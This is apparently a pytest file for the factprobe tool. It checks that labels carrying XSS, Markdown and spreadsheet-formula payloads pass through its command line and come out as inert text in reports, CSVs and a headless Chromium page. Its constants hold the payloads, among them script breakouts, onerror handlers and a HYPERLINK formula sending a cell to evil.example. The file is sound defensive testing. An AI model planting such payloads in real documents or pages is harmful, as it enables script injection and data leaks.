"""Hostile text in a graph must not be turned against the person who opens what factprobe
writes: labels and relation ids holding HTML, Markdown, spreadsheet formulas, backticks and
line separators go through the real command line (``build facts`` from a CSV graph, ``build mc``,
``eval zp-lke``, ``report --html``, ``publish --dry-run``, ``build templates --review-out`` /
``--review-in``) and every written file is checked as its reader sees it: report.md and the
card's README.md rendered by a CommonMark parser, every CSV cell as a spreadsheet reads it,
the JSON inside index.html, and the page itself in headless Chromium (no script of the data
runs, nothing is blank, nothing leaves file://)."""
from __future__ import annotations

import csv
import io
import json
import re
import shutil
from pathlib import Path

import pytest

from factprobe.builders.templates.files import file_name
from tests.contract.harness import run
from tests.evaluators.cli.own_graph import facts
from tests.evaluators.report.test_report_html import _chromium

EVIL = "http://evil.example/"
# What a label may hold: each would run, hide, link, call home or break a table or a code span.
LABELS = [
    '</script><script>document.title="pwned";window.__pwned=1</script>',
    "<!--<script>",
    f'<img src="{EVIL}x.png" onerror="window.__pwned=1">',
    f"`code` *bold* _em_ | cell [link]({EVIL}) ![img]({EVIL}i.png) &lt;b&gt;",
    "line\u2028break\u2029para\nnewline",
]
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+SUM(1,2)", "-2+3", "@SUM(1)",
            "\t=1+1", "=1+1"]
RELATIONS = {"capital": "=cap<!--|`x`", "language": "@lang<script>"}
REL_LABELS = {"capital": "<!--<script>", "language": f"`a`` [x]({EVIL}) *b*"}
# a run folder's name becomes the model's name in every table
RUN = "=run<img src=x onerror=alert(1)>`x`"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?")


def hostile_graph(path: Path) -> None:
    """The 48-fact test graph with every label and relation id made hostile (each still
    unique: the payload, then the entity's own name)."""
    rows = [["subject", "subject_label", "relation", "relation_label", "object", "object_label"]]
    for i, (s, s_label, rel, o, o_label) in enumerate(facts()):
        subj = f"{LABELS[int(s[1:]) % len(LABELS)]} {s_label}"
        obj = f"{FORMULAS[len(o_label) % len(FORMULAS)]} {o_label}"
        rows.append([f"ex:{s}", subj, RELATIONS[rel], REL_LABELS[rel], f"ex:{o}", obj])
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    path.write_text(buf.getvalue(), encoding="utf-8")


def ok(ws: Path, *argv: str) -> str:
    proc = run(list(argv) + ["--quiet"], cwd=ws, timeout=600)
    assert proc.returncode == 0, f"{argv}: {proc.stderr[-3000:]}"
    return proc.stdout


@pytest.fixture(scope="module")
def ws(tmp_path_factory, tiny_causal_dir) -> Path:
    ws = tmp_path_factory.mktemp("hostile-render")
    hostile_graph(ws / "graph.csv")
    ok(ws, "build", "facts", "--source", "csv", "--path", "graph.csv", "--relations", "all",
       "--out", "facts")
    ok(ws, "build", "mc", "--facts", "facts", "--choices", "4", "--min-facts", "8",
       "--min-objects", "4", "--train", "2", "--test", "4", "--out", "mc")
    shutil.copytree(tiny_causal_dir, ws / "model")
    ok(ws, "eval", "zp-lke", "--dataset", "mc", "--model", "model", "--examples", "2",
       "--response-tokens", "0", "--out", f"results/{RUN}")
    ok(ws, "report", "--results", "results", "--html", "--bootstrap", "50", "--out", "report")
    ok(ws, "publish", "mc", "--repo-id", "me/hostile", "--dry-run", "hub",
       "--pretty-name", "<script>x</script> `t`")
    return ws


def rendered(markdown: str) -> str:
    """The HTML a CommonMark renderer with raw HTML allowed (as GitHub's and the Hub's are,
    before their sanitiser) makes of ``markdown``."""
    from markdown_it import MarkdownIt
    return MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown)


def assert_inert(html: str) -> None:
    """No element, comment or link the data asked for."""
    low = html.lower()
    # the report's own figures are the only images
    assert all(src.startswith("figures/") for src in re.findall(r'<img src="([^"]*)"', low))
    for bad in ("<script", "<img src=x", "<!--", f'href="{EVIL}', f'src="{EVIL}', "<em>b",
                "<strong>bold", "onerror=\""):
        assert bad not in low, (bad, low[max(0, low.find(bad) - 200):low.find(bad) + 200])


@pytest.mark.parametrize("name", ["report/report.md", "report/tables/leaderboard.md",
                                  "report/tables/per_relation.md", "hub/README.md"])
def test_markdown_shows_data_as_text(ws, name):
    text = (ws / name).read_text(encoding="utf-8")
    if name == "hub/README.md":
        # the YAML header is metadata to the Hub, not Markdown: it must parse, values intact
        import yaml
        _, meta, text = text.split("---\n", 2)
        assert yaml.safe_load(meta)["pretty_name"] == "<script>x</script> `t`"
    html = rendered(text)
    assert_inert(html)
    if name == "hub/README.md":
        # the relation ids and labels are there, shown as written
        assert "=cap&lt;!--|`x`" in html.replace("<code>", "").replace("</code>", "")
        assert "&lt;script&gt;x&lt;/script&gt;" in html         # --pretty-name, as text
    else:
        assert "=run&lt;img src=x onerror=alert(1)&gt;`x`" in html
    assert "\u2028" not in text and "\u2029" not in text


def test_every_csv_cell_is_text_to_a_spreadsheet(ws):
    files = sorted((ws / "report").rglob("*.csv"))
    assert any(f.parent.name == "tables" for f in files)
    seen = set()
    for f in files:
        for row in csv.reader(io.StringIO(f.read_text(encoding="utf-8"), newline="")):
            for cell in row:
                seen.add(cell)
                assert not (cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell)), \
                    (f, cell)
    # the data is kept, behind one quote
    assert "'=cap<!--|`x`" in seen and "'@lang<script>" in seen


def test_index_html_embeds_json_without_markup(ws):
    html = (ws / "report/index.html").read_text(encoding="utf-8")
    data = re.search(r'<script id="fp-data" type="application/json">(.*?)</script>', html,
                     re.S).group(1)
    assert not set("<>&\u2028\u2029") & set(data)
    assert "=cap<!--|`x`" in json.dumps(json.loads(data), ensure_ascii=False)
    # as many <script as the page's own files hold: a label reading </script> adds none
    from factprobe.evaluators.report.html.page import SCRIPTS, _static
    own = sum(_static(f).count("<script") for f in ("index.html", "explorer.css", *SCRIPTS))
    assert html.count("<script") == own
    for js in (ws / "report/explorer/data").rglob("*.js"):
        assert "\u2028" not in js.read_text(encoding="utf-8")


def test_page_in_chromium_runs_no_data_and_shows_everything(ws):
    exe = _chromium()
    if exe is None:
        pytest.skip("no Chromium (apt-get install chromium, or FACTPROBE_CHROMIUM=path)")
    sync_playwright = pytest.importorskip("playwright.sync_api").sync_playwright
    requests, errors, dialogs = [], [], []
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=exe)
        ctx = browser.new_context(viewport={"width": 1400, "height": 1000})
        ctx.route(lambda url: not url.startswith("file://"),
                  lambda route: (requests.append(route.request.url), route.abort()))
        pg = ctx.new_page()
        pg.on("pageerror", lambda e: errors.append(str(e)))
        pg.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        pg.goto((ws / "report/index.html").as_uri())
        pg.wait_for_selector(".lb-cell")                       # the leaderboard is drawn
        title = pg.title()
        assert pg.evaluate("typeof window.__pwned") == "undefined"
        assert pg.eval_on_selector_all(".lb-cell", "cs => cs.length") > 0
        body = pg.inner_text("body")
        assert RUN in body                                    # the run's name, as text
        pg.click("#tab-explore")
        pg.select_option("#dataset", index=0)
        relations = pg.eval_on_selector_all("#relation option", "os => os.map(o => o.value)")
        assert set(RELATIONS.values()) <= set(relations), relations
        pg.select_option("#relation", value=RELATIONS["capital"])
        pg.wait_for_selector("#facts tr[data-fact]")
        rows = pg.eval_on_selector_all("#facts tr[data-fact]", "rs => rs.length")
        assert rows > 0
        pg.click("#facts tr[data-fact]")
        subject = pg.locator("#fact-detail .fact-head .subject").inner_text()
        assert any(subject.startswith(label.split("\u2028")[0][:10]) for label in LABELS), subject
        assert pg.evaluate("typeof window.__pwned") == "undefined"
        assert pg.title() == title and "pwned" not in title
        browser.close()
    assert not errors, errors
    assert not dialogs, dialogs
    assert not requests, requests


def test_review_csv_is_spreadsheet_safe_and_reads_back(ws):
    folder = ws / "templates"
    folder.mkdir(exist_ok=True)
    for rel, rid in RELATIONS.items():
        body = (f"relation: {json.dumps(rid)}\nlabel: {json.dumps(REL_LABELS[rel])}\n"
                "templates:\n"
                '  - {id: m1, style: statement, text: "=HYPERLINK(1) [X] has [Y]."}\n'
                '  - {id: m2, style: statement, text: "@[X] goes with [Y]."}\n'
                '  - {id: m3, style: statement, text: "-[X] and [Y]."}\n')
        (folder / file_name(rid)).write_text(body, encoding="utf-8")
    ok(ws, "build", "templates", "--facts", "facts", "--templates-dir", "templates",
       "--paraphrases", "0", "--review-out", "review.csv", "--out", "tpl")
    rows = list(csv.reader(io.StringIO((ws / "review.csv").read_text(encoding="utf-8"),
                                       newline="")))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell
    # a person marks one template drop: the next build reads the ids back exactly
    header, body = rows[0], rows[1:]
    first = body[0]
    first[header.index("decision")] = "drop"
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows([header, *body])
    (ws / "marked.csv").write_text(buf.getvalue(), encoding="utf-8")
    ok(ws, "build", "templates", "--facts", "facts", "--templates-dir", "templates",
       "--paraphrases", "0", "--review-in", "marked.csv", "--out", "tpl2")
    import pandas as pd
    kept = set(pd.read_parquet(ws / "tpl2/templates.parquet")["template_id"])
    dropped = first[header.index("template_id")][1:]          # the ' a spreadsheet shows
    assert dropped.startswith(tuple(RELATIONS.values())) and dropped not in kept
    assert len(kept) == len(body) - 1
